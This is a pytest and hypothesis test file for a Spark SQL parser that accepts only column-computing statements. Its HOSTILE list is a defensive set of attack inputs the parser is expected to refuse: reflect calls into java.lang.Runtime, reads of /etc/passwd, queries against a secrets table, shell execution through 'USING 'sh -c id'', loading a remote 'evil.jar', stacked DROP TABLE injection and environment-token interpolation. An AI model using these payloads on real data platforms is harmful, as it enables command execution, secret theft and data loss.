"""The SQL that a model brings along: what computes columns is taken apart, anything else is refused before it runs."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from search_forecast.errors import DataError
from search_forecast.models.sparkml.sql import FUNCTIONS, Statement, parse


@pytest.mark.parametrize(
    ("text", "reads", "adds", "is_filter"),
    [
        ("SELECT *, x + y AS s FROM __THIS__", ["x", "y"], ["s"], False),
        ("select `a b`, x, `a b` / x as `per x` from `__THIS__`", ["a b", "x"], ["per x"], False),
        ("SELECT *, CAST(x AS DOUBLE) AS d, log(2, y) l FROM __THIS__ WHERE x > 0", ["x", "y"], ["d", "l"], True),
        ("SELECT __THIS__.*, ln(__THIS__.x) lx, p.q + 1 AS r FROM __THIS__", ["x", "p"], ["lx", "r"], False),
        ("SELECT *, CASE WHEN shop IN ('a', \"b\") THEN 1 ELSE -x END AS c FROM __THIS__", ["shop", "x"], ["c"], False),
        (
            "SELECT *, coalesce(nullif(x, 0), 1) a, x IS NOT NULL b, if(x BETWEEN 1 AND 2, 'it''s', t) c, "
            "upper(substring(t, 1, 2)) || '-' AS d, year(to_date(t)) e, x % 2 f, pmod(x, 3) g FROM __THIS__",
            ["x", "t"],
            list("abcdefg"),
            False,
        ),
        ("SELECT *, cast(x AS decimal(10, 2)) AS d, x <=> y AS e, NOT (x LIKE 'a%') AS f FROM __THIS__",
         ["x", "y"], ["d", "e", "f"], False),
    ],
)  # fmt: skip
def test_sql_that_computes_columns_is_taken_apart(
    text: str, reads: list[str], adds: list[str], is_filter: bool
) -> None:
    parsed = parse(text)
    assert parsed == Statement(parsed.reads, adds, is_filter)
    assert set(parsed.reads) == set(reads)


def test_every_known_function_can_be_called() -> None:
    shapes = ("{}(x)", "{}(x, y)", "{}(x, y, z)", "{}(x as int)")
    for name in FUNCTIONS:
        texts = [f"SELECT *, {shape.format(name)} AS r FROM __THIS__" for shape in shapes]
        assert any(_is_taken(text) for text in texts), name


def _is_taken(text: str) -> bool:
    try:
        return "x" in parse(text).reads
    except DataError:
        return False


HOSTILE = [
    "SELECT *, reflect('java.lang.Runtime', 'getRuntime') AS r FROM __THIS__",
    "SELECT *, REFLECT ('a', 'b') AS r FROM __THIS__",
    "SELECT *, `reflect`('a', 'b') AS r FROM __THIS__",
    "SELECT *, java_method('a', 'b') AS r FROM __THIS__",
    "SELECT *, try_reflect('a', 'b') AS r FROM __THIS__",
    "SELECT *, x.reflect('a') AS r FROM __THIS__",
    "SELECT *, transform(array(1), x -> reflect('a', 'b')) AS r FROM __THIS__",
    "SELECT *, main.default.own_function(x) AS r FROM __THIS__",
    "SELECT *, ai_query('model', x) AS r FROM __THIS__",
    "SELECT *, secret('scope', 'key') AS r FROM __THIS__",
    "SELECT *, read_files('/etc') AS r FROM __THIS__",
    "SELECT *, input_file_name() AS r FROM __THIS__",
    "SELECT *, raise_error('x') AS r FROM __THIS__",
    "SELECT *, repeat('x', 2000000000) AS r FROM __THIS__",
    "SELECT *, rand() AS r FROM __THIS__",
    "SELECT *, current_user AS r FROM __THIS__",
    "SELECT *, current_timestamp AS r FROM __THIS__",
    "SELECT * FROM csv.`/etc/passwd`",
    "SELECT * FROM text.`/etc/passwd`",
    "SELECT * FROM secrets",
    "SELECT * FROM __THIS__, secrets",
    "SELECT * FROM __THIS__ JOIN secrets ON 1 = 1",
    "SELECT * FROM __THIS__ CROSS JOIN secrets",
    "SELECT * FROM other.__THIS__",
    "SELECT * FROM range(10)",
    "SELECT * FROM IDENTIFIER('secrets')",
    "SELECT *, (SELECT a FROM secrets) AS s FROM __THIS__",
    "SELECT * FROM (SELECT * FROM secrets)",
    "SELECT * FROM __THIS__ WHERE x IN (SELECT a FROM secrets)",
    "SELECT * FROM __THIS__ WHERE EXISTS (TABLE secrets)",
    "SELECT * FROM __THIS__ WHERE x IN (TABLE `secrets`)",
    "SELECT *, (TABLE `secrets`) AS s FROM __THIS__",
    "SELECT * FROM __THIS__ UNION ALL SELECT * FROM secrets",
    "WITH t AS (SELECT * FROM secrets) SELECT * FROM __THIS__",
    "SELECT TRANSFORM (x) USING 'sh -c id' AS (y) FROM __THIS__",
    "MAP x USING 'sh -c id' FROM __THIS__",
    "FROM __THIS__ SELECT *",
    "SELECT * FROM __THIS__; DROP TABLE secrets",
    "DROP TABLE secrets",
    "INSERT INTO secrets SELECT * FROM __THIS__",
    "CREATE TABLE t AS SELECT * FROM __THIS__",
    "ADD JAR 'http://example.com/evil.jar'",
    "SET spark.sql.ansi.enabled = false",
    "TABLE secrets",
    "VALUES (1)",
    "EXPLAIN SELECT * FROM __THIS__",
    "SELECT *, '${env:TOKEN}' AS t FROM __THIS__",
    "SELECT *, x AS t FROM ${spark.table}",
    "SELECT *, 'a\\' AS t, ' || reflect(1) || ' AS u FROM __THIS__",
    "SELECT * FROM __THIS__ -- a comment",
    "SELECT * /* a comment */ FROM __THIS__",
    "SELECT /*+ BROADCAST(t) */ * FROM __THIS__",
    "SELECT * FROM __THIS__ |> SELECT *",
    "SELECT *, x[0] AS t FROM __THIS__",
    "SELECT *, a:b AS t FROM __THIS__",
    "SELECT *, CAST(x AS struct<a: int>) AS t FROM __THIS__",
    # These make more, fewer or other rows than they were given.
    "SELECT *, explode(array(1, 2)) AS t FROM __THIS__",
    "SELECT * FROM __THIS__ LATERAL VIEW explode(x) t",
    "SELECT sum(x) AS s FROM __THIS__",
    "SELECT x AS s FROM __THIS__ GROUP BY x",
    "SELECT *, sum(x) OVER () AS s FROM __THIS__",
    "SELECT DISTINCT * FROM __THIS__",
    "SELECT * FROM __THIS__ ORDER BY x",
    "SELECT * FROM __THIS__ LIMIT 1",
    "SELECT * FROM __THIS__ TABLESAMPLE (1 ROWS)",
    "SELECT * FROM __THIS__ PIVOT (sum(x) FOR y IN (1))",
    # No SQL.
    "",
    "SELECT",
    "SELECT 1",
    "(" * 5000,
    "SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM __THIS__",
]


@pytest.mark.parametrize("text", HOSTILE, ids=[text[:60] for text in HOSTILE])
def test_anything_else_is_refused_with_a_reason(text: str) -> None:
    with pytest.raises(DataError) as caught:
        parse(text)
    assert "\n" not in str(caught.value)


WORDS = st.sampled_from(
    re.findall(
        r"\S+",
        "SELECT * , x FROM __THIS__ secrets WHERE ( ) reflect ln + - / ' \" ` a AS -- ; UNION JOIN TABLE IN EXISTS 1 .",
    )
)


@settings(max_examples=150)
@given(st.lists(WORDS, max_size=15).map(" ".join))
def test_fuzz_what_is_taken_reads_nothing_but_the_rows_at_hand(words: str) -> None:
    for text in (words, f"SELECT * , x AS a FROM __THIS__ {words}", f"SELECT {words} FROM __THIS__"):
        try:
            parse(text)
        except DataError:
            continue
        bare = re.sub(r"'[^']*'|\"[^\"]*\"|`[^`]*`", "''", text)
        assert re.findall(r"(?:FROM|JOIN|TABLE|UNION)\s+(\S+)|reflect \(", bare) == ["__THIS__"]
